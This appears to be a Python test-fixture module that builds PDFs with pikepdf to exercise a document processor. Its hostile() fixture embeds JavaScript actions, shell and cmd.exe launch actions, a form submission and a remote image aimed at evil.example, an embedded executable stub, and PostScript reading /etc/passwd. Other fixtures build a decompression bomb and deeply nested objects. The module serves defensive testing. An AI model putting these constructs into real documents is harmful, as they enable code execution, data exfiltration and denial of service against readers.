"""Evidence as an enemy or an accident would file it, made here and nowhere stored."""

import zlib
from io import BytesIO

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String

RUNS = "app.alert('run')"


def paper(pages: int = 1, *, text: str = "EVIDENCE", size: tuple[float, float] = (595, 842), rotate: int = 0) -> Pdf:
    """A plain document whose every page says its text and number."""
    pdf = Pdf.new()
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    for number in range(1, pages + 1):
        pdf.add_blank_page(page_size=size)
        page = pdf.pages[-1].obj
        page.Resources = Dictionary(Font=Dictionary(F1=font))
        page.Contents = Stream(pdf, f"BT /F1 24 Tf 72 700 Td ({text} {number}) Tj ET".encode())
        if rotate:
            page.Rotate = rotate
    return pdf


def saved(pdf: Pdf, **options: object) -> bytes:
    out = BytesIO()
    pdf.save(out, static_id=True, **options)  # type: ignore[arg-type]  # passed on as they are
    return out.getvalue()


def hostile() -> bytes:
    """Every way to act, to reach outside and to hide something that a file may try at once."""
    pdf = paper(2)
    script = Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(RUNS))
    launch = Dictionary(S=Name.Launch, F=String("/bin/sh"), Win=Dictionary(F=String("cmd.exe")))
    leave = Dictionary(S=Name.URI, URI=String("https://evil.example/"))
    send = Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("https://evil.example/take")))
    hidden = pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String("x.exe"), EF=Dictionary(F=Stream(pdf, b"MZ"))))
    pdf.Root.OpenAction = script
    pdf.Root.AA = Dictionary(WC=launch)
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("a"), script])),
        EmbeddedFiles=Dictionary(Names=Array([String("x"), hidden])),
    )
    pdf.Root.AF = Array([hidden])
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=Stream(pdf, b"<xdp/>"))
    page = pdf.pages[0].obj
    page.AA = Dictionary(O=launch)
    page.PieceInfo = Dictionary(App=Dictionary(Private=script))
    page.Annots = Array(
        [_link(pdf, action) for action in (script, launch, leave, send)]
        + [pdf.make_indirect(Dictionary(Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]), FS=hidden))]
    )
    outside = Stream(pdf, b"")
    outside.stream_dict = Dictionary(
        Type=Name.XObject, Subtype=Name.Image, Width=1, Height=1, BitsPerComponent=8, ColorSpace=Name.DeviceGray,
        F=Dictionary(FS=Name.URL, F=String("https://evil.example/pixel")),
    )  # fmt: skip
    program = Stream(pdf, b"(/etc/passwd) (r) file")
    program.stream_dict = Dictionary(Type=Name.XObject, Subtype=Name.PS)
    other = Stream(pdf, b"0 0 1 1 re f")
    other.stream_dict = Dictionary(
        Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 1, 1]), AA=Dictionary(O=script),
        Ref=Dictionary(F=String("other.pdf"), Page=0), OPI=Dictionary(), AF=Array([hidden]),
    )  # fmt: skip
    page.Resources.XObject = Dictionary(Out=outside, Ps=program, AA=other)
    page.Resources.Font["/JS"] = Dictionary(S=Name.JavaScript, JS=String(RUNS))
    with pdf.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("go", action=script))
    return saved(pdf)


def _link(pdf: Pdf, action: Dictionary) -> pikepdf.Object:
    return pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 100, 100]), A=action))


def filled_form() -> bytes:
    """A form whose answer stands only in a field."""
    pdf = paper()
    look = Stream(pdf, b"BT /F1 12 Tf 2 4 Td (ANSWERED YES) Tj ET")
    look.stream_dict = Dictionary(
        Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 200, 20]), Resources=pdf.pages[0].obj.Resources
    )
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("answer"), V=String("ANSWERED YES"), F=4,
            Rect=Array([72, 600, 272, 620]), AP=Dictionary(N=look),
            AA=Dictionary(K=Dictionary(S=Name.JavaScript, JS=String(RUNS))),
        )
    )  # fmt: skip
    pdf.pages[0].obj.Annots = Array([field])
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))
    return saved(pdf)


def inherited() -> bytes:
    """Pages that take their size, their turn and their fonts from the node above."""
    pdf = paper(2)
    above = pdf.Root.Pages
    above.MediaBox, above.Rotate = Array([0, 0, 842, 595]), 90
    above.Resources = pdf.pages[0].obj.Resources
    for page in pdf.pages:
        del page.obj["/MediaBox"], page.obj["/Resources"]
    return saved(pdf)


def encrypted(user: str = "secret") -> bytes:
    return saved_encrypted(paper(), user)


def saved_encrypted(pdf: Pdf, user: str) -> bytes:
    out = BytesIO()
    pdf.save(out, encryption=pikepdf.Encryption(owner="owner", user=user))
    return out.getvalue()


def truncated() -> bytes:
    return saved(paper(3))[:180]


def without_pages() -> bytes:
    return saved(Pdf.new())


def changed(**keys: pikepdf.Object | int) -> bytes:
    """A sheet with something else in its own dictionary."""
    pdf = paper()
    for key, value in keys.items():
        pdf.pages[0].obj[f"/{key}"] = value
    return saved(pdf)


def drawn_by(data: bytes, filters: Name | Array) -> bytes:
    """A sheet whose content is packed so."""
    pdf = paper()
    content = Stream(pdf, b"")
    content.write(data, filter=filters)
    pdf.pages[0].obj.Contents = content
    return saved(pdf)


def swelling(megabytes: int) -> bytes:
    """A small file that becomes a large one when its page is drawn."""
    packer, part = zlib.compressobj(9), b"0 0 m " * 174_763
    return drawn_by(b"".join([*(packer.compress(part) for _ in range(megabytes)), packer.flush()]), Name.FlateDecode)


def endless(depth: int) -> bytes:
    """One dictionary under the other, as deep as asked, where a page keeps its graphics states."""
    head = (
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</ExtGState<</G 4 0 R>>>>>>",
    )
    objects = [*head, *(b"<</N %d 0 R>>" % number for number in range(5, 5 + depth)), b"<<>>"]
    out, places = BytesIO(), []
    out.write(b"%PDF-1.7\n")
    for number, item in enumerate(objects, 1):
        places.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, item))
    start = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    out.write(b"".join(b"%010d 00000 n \n" % place for place in places))
    out.write(b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start))
    return out.getvalue()
